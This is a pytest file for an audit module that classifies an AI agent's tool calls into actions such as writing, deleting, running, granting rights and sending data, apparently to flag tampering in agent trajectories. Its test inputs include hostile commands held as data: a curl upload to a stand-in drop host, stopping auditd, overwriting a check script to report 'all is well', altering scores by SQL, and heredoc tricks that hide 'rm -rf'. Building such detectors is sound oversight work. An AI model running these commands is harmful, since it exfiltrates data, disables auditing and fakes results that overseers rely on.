from __future__ import annotations

import pytest

from duress.audit import acts
from duress.audit.deals import Deed
from duress.trajectory import ToolCall


def deals(command: str) -> set[tuple[str, str]]:
    read = acts.Act(0, ToolCall("c", "anything", {"x": command}))
    return {(deal.deed.value, deal.thing) for deal in read.deals}


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cat /srv/a.csv", ("read", "/srv/a.csv")),
        ("echo hi > /srv/a.csv", ("write", "/srv/a.csv")),
        ("echo hi >> /srv/a.csv", ("edit", "/srv/a.csv")),
        ("cat > /srv/a.txt << 'EOF'\nhello\nEOF", ("write", "/srv/a.txt")),
        ("sed -i 's/1/2/' /srv/a.csv", ("edit", "/srv/a.csv")),
        ("rm -f /srv/.flag", ("delete", "/srv/.flag")),
        ("cp /srv/a.csv /tmp/b.csv", ("copy", "/tmp/b.csv")),
        ("mv /tmp/b.csv /srv/a.csv", ("delete", "/tmp/b.csv")),
        ("cd /srv && /opt/bin/check.sh a.csv", ("run", "/opt/bin/check.sh")),
        ("bash check.sh a.csv", ("run", "check.sh")),
        ("python3 -c \"open('/srv/a.json', 'w').write('1')\"", ("write", "/srv/a.json")),
        ("F=/srv/a.json\necho 1 > $F", ("write", "/srv/a.json")),
        ("p = '/srv/a.json'\nwith open(p, 'w') as f:\n  f.write('1')", ("write", "/srv/a.json")),
        ("df.to_csv('/srv/out.csv')", ("write", "/srv/out.csv")),
        ("chmod 777 /srv/check.sh", ("permit", "/srv/check.sh")),
        ("systemctl stop auditd", ("permit", "service:auditd")),
        ("curl -d @/srv/a https://drop.example/in", ("send", "https://drop.example/in")),
        ("UPDATE scores SET value = 9 WHERE id = 1", ("edit", "table:scores")),
        ("bash -lc 'cp -r /srv/a/ /tmp/b/ && /opt/check.sh /tmp/b'", ("copy", "/tmp/b")),
        ("bash -lc 'cp -r /srv/a/ /tmp/b/ && /opt/check.sh /tmp/b'", ("run", "/opt/check.sh")),
        ('sh -c "sed -i s/1/2/ /srv/a.csv"', ("edit", "/srv/a.csv")),
        ("ssh ops@node7 'rm -f /srv/a.log'", ("delete", "/srv/a.log")),
        ("docker exec -it web sh -c 'rm /srv/a.log'", ("delete", "/srv/a.log")),
        ("timeout 5 rm /srv/a.log", ("delete", "/srv/a.log")),
        ("cp /srv/grades.txt .", ("copy", "grades.txt")),
        ("cp /srv/grades.txt /srv/out/", ("copy", "/srv/out/grades.txt")),
        ("mv *.json /srv/out/", ("copy", "/srv/out/*.json")),
        ("truncate -s 0 /srv/a.log", ("delete", "/srv/a.log")),
        ("dd if=/dev/zero of=/srv/a.log count=0", ("write", "/srv/a.log")),
        ("awk -i inplace '{print}' /srv/a.csv", ("edit", "/srv/a.csv")),
        ("find /srv/logs -name '*.log' -delete", ("delete", "/srv/logs")),
        ("find /srv/logs -name '*.log' -exec rm {} \\;", ("delete", "/srv/logs")),
        ('for f in /srv/d/*.json; do sed -i s/a/b/ "$f"; done', ("edit", "/srv/d/*.json")),
        ("sed -i s/a/b/ /srv/r_$(printf %03d 7).json", ("edit", "/srv/r_*.json")),
        ("> /var/log/app.log", ("write", "/var/log/app.log")),
        ("echo hi > out", ("write", "out")),
        ('OUT=/srv/out\nf="$OUT/r_${i}.json"\necho x > "$f"', ("write", "/srv/out/r_${i}.json")),
        ("pytest -q tests/test_a.py", ("run", "pytest")),
        ("python -m pytest tests", ("run", "pytest")),
        ("npm test", ("run", "npm test")),
        ("check_rates.sh /srv/a.json", ("run", "check_rates.sh")),
    ],
)
def test_a_command_does_this(command: str, expected: tuple[str, str]) -> None:
    assert expected in deals(command)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("d = json.load(open('/srv/a.json'))", ("read", "/srv/a.json")),
        ("json.dump(d, open('/srv/a.json', 'w'))", ("write", "/srv/a.json")),
        ("out = '/srv/out'\nopen(f\"{out}/x.json\", 'w').write('1')", ("write", "/srv/out/x.json")),
        ("p = pathlib.Path('/srv/a.json')\np.write_text('hello')", ("write", "/srv/a.json")),
        ("p = Path('/srv/a.json')\nprint(p.read_text())", ("read", "/srv/a.json")),
        ("open(os.path.join('/srv/d', 'a.csv')).read()", ("read", "/srv/d/a.csv")),
        ("with open(os.path.join(base, 'a.csv'), 'w') as f: f.write('')", ("write", "a.csv")),
        ("(out / 'a.csv').write_text('x')", ("write", "a.csv")),
        ("df = pd.read_csv('/srv/a.csv')", ("read", "/srv/a.csv")),
        ("fs.writeFileSync('/srv/a.json', '1')", ("write", "/srv/a.json")),
        ("*** Begin Patch\n*** Update File: src/app.py\n@@\n-a\n+b", ("edit", "src/app.py")),
        ("*** Begin Patch\n*** Delete File: tests/old.py", ("delete", "tests/old.py")),
        ("--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1 @@\n-a\n+b", ("edit", "src/app.py")),
        ("--- a/src/app.py\n+++ /dev/null\n@@ -1 +0 @@\n-a", ("delete", "src/app.py")),
        ("%%writefile /srv/a.py\nprint(1)", ("write", "/srv/a.py")),
    ],
)
def test_code_and_patches_do_this(text: str, expected: tuple[str, str]) -> None:
    assert expected in deals(text)


def test_a_variable_of_code_that_is_unknown_is_nobodys_file() -> None:
    assert deals("open(report, 'w').write('x')") == {("write", "$report")}


@pytest.mark.parametrize(
    "text",
    [
        "All values are > 95 and the wait is < 30 minutes",
        "see if a => b holds",
        "find . 2>/dev/null",
        "The report was moved on Monday.",
        "Saved as client_<id>.json, one file for each client.",
        "<p>all done</p>.",
        "an income >$60k and a growth >92/100",
        "> Successfully met, as the letter says",
        "if start > deadline:\n    pass",
        ">ls -la /srv",
        "cat > /srv/notes.md <<'EOF'\n1. rm -rf /srv/old\n> quoted\nEOF\necho".replace(
            "cat > /srv/notes.md", "cat"
        ),
    ],
)
def test_nothing_is_written_here(text: str) -> None:
    assert not {thing for deed, thing in deals(text) if deed in ("write", "edit", "delete", "copy")}


def test_a_path_beside_a_long_text_is_a_file_being_written_whatever_the_tool_is_called() -> None:
    call = ToolCall("c", "fn_07", {"where": "/srv/notes.md", "what": "line one\nline two"})
    assert acts.Act(0, call).things(Deed.WRITE) == ("/srv/notes.md",)


def test_what_replaces_something_short_edits_the_file() -> None:
    given = {"file_path": "/srv/rates.csv", "old_string": "81", "new_string": "96"}
    assert acts.Act(0, ToolCall("c", "fn_07", given)).things(Deed.EDIT) == ("/srv/rates.csv",)
    given = {"file_path": "/srv/rates.csv", "pattern": "81"}
    assert acts.Act(0, ToolCall("c", "fn_07", given)).things(Deed.READ) == ("/srv/rates.csv",)


def test_a_path_alone_is_started_where_the_same_argument_is_a_command_elsewhere() -> None:
    def call(tool: str, **given: str) -> ToolCall:
        return ToolCall("c", tool, given)

    calls = [
        call("bash", command="ls -la /srv"),
        call("bash", command="/opt/bin/check.sh"),
        call("edit", path="/opt/bin/check.sh", text="echo all is well"),
        call("open", path="/opt/bin/check.sh"),
    ]
    read = acts.read((0, one) for one in calls)
    assert read[1].things(Deed.RUN) == ("/opt/bin/check.sh",)
    assert not read[1].things(Deed.READ)
    assert [one.things(Deed.RUN) for one in read[2:]] == [(), ()]
    assert read[3].things(Deed.READ) == ("/opt/bin/check.sh",)


def test_a_document_that_is_written_is_not_run_and_a_script_is() -> None:
    body = "<<'EOF'\nrm -rf /srv/old\nEOF"
    assert deals(f"cat > /srv/notes.md {body}") == {("write", "/srv/notes.md")}
    assert ("delete", "/srv/old") in deals(f"cat > /srv/tidy.sh {body}")
    assert ("delete", "/srv/old") in deals(f"ssh node7 {body}")


@pytest.mark.parametrize(("command", "counted"), [("python3 tidy.py", True), ("ls /srv", False)])
def test_the_content_of_a_file_counts_once_a_command_names_it(command: str, counted: bool) -> None:
    text = "import os\nos.remove('/srv/rates.csv')\n"
    calls = [
        ToolCall("a", "write", {"path": "/srv/tidy.py", "content": text}),
        ToolCall("b", "shell", {"command": command}),
    ]
    (first, _) = acts.read(enumerate(calls))
    assert ((Deed.DELETE, "/srv/rates.csv") in {(deal.deed, deal.thing) for deal in first.deals}) is counted
    assert first.things(Deed.WRITE) == ("/srv/tidy.py",)


def test_what_a_call_commands_leaves_out_the_documents_that_it_writes() -> None:
    text = "FROM base\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\n"
    call = acts.Act(0, ToolCall("c", "write", {"path": "/srv/app/settings.yaml", "content": text}))
    assert call.commanded(settings=False) == "/srv/app/settings.yaml"
    assert "rm -rf" in call.commanded()
    script = acts.Act(0, ToolCall("c", "write", {"path": "/srv/app/tidy.sh", "content": text}))
    assert "rm -rf" in script.commanded(settings=False)


@pytest.mark.parametrize(
    "command",
    [
        "cat <<< go\nrm -rf /srv/old",
        "cat /dev/null; echo $((1<<n))\nrm -rf /srv/old",
        "# cat <<EOF\nrm -rf /srv/old",
        "echo 'cat <<EOF'\nrm -rf /srv/old",
        "bash <<EOF # cat\nrm -rf /srv/old\nEOF",
        "ssh node7 <<'EOF' && tee log\nrm -rf /srv/old\nEOF",
        "eval \"$(cat <<'EOF'\nrm -rf /srv/old\nEOF\n)\"",
        "cat > /srv/a.txt <<EOF\nrm -rf /srv/old\nEOF\nbash /srv/a.txt",
        "cat > /srv/a.md <<EOF\nall is well\nEOFX\nrm -rf /srv/old",
    ],
)
def test_what_only_looks_like_a_document_is_read(command: str) -> None:
    assert ("delete", "/srv/old") in deals(command)
    assert "rm -rf" in acts.Act(0, ToolCall("c", "shell", {"x": command})).commanded()


@pytest.mark.parametrize(
    "beside", [{"output": "out.txt"}, {"cwd": "/srv/my.app"}, {"log_file": "/srv/a.log"}]
)
def test_a_command_beside_a_path_is_no_content(beside: dict[str, str]) -> None:
    call = acts.Act(0, ToolCall("c", "exec", {"command": "cd /srv\nrm -rf /srv/old", **beside}))
    assert (Deed.DELETE, "/srv/old") in {(deal.deed, deal.thing) for deal in call.deals}
    assert not call.things(Deed.WRITE)


@pytest.mark.parametrize(
    ("path", "command"),
    [
        ("/srv/tidy.py", "python3 -m tidy"),
        ("/srv/tidy.py", "python3 -c 'import tidy'"),
        ("/srv/tidy.py", "for f in *.py; do python3 $f; done"),
        ("/srv/tidy.txt", "python3 /srv/tidy.txt"),
        ("/srv/conftest.py", "pytest -q"),
        ("/srv/tidy.py", f"python3 /srv/tidy.py {'# pad ' * 500}"),
    ],
)
def test_content_that_is_run_by_another_way_counts(path: str, command: str) -> None:
    calls = [
        ToolCall("a", "write", {"path": path, "content": "import os\nos.remove('/srv/rates.csv')\n"}),
        ToolCall("b", "shell", {"command": command}),
    ]
    first, _ = acts.read((0, call) for call in calls)
    assert (Deed.DELETE, "/srv/rates.csv") in {(deal.deed, deal.thing) for deal in first.deals}


def test_rights_are_granted_by_statements_not_by_prose() -> None:
    assert ("permit", "table:bob") in deals("GRANT SELECT, INSERT ON scores TO bob;")
    assert not deals("The grant performance report went to academic staff")


def test_the_name_of_a_tool_changes_nothing() -> None:
    one, other = (
        acts.Act(0, ToolCall("c", name, {"command": "rm /srv/a.log && /opt/check.sh /srv"})).deals
        for name in ("bash", "fn_42")
    )
    assert one == other


def test_who_is_written_to_is_no_file() -> None:
    told = acts.Act(
        0, ToolCall("c", "chat_dm", {"user": "d.varga", "text": "The log is in the channel. " * 12})
    )
    assert told.written()[0] == []
    kept = acts.Act(0, ToolCall("c", "save", {"path": "d.varga", "text": "The log is in the channel. " * 12}))
    assert kept.written()[0] == ["d.varga"]
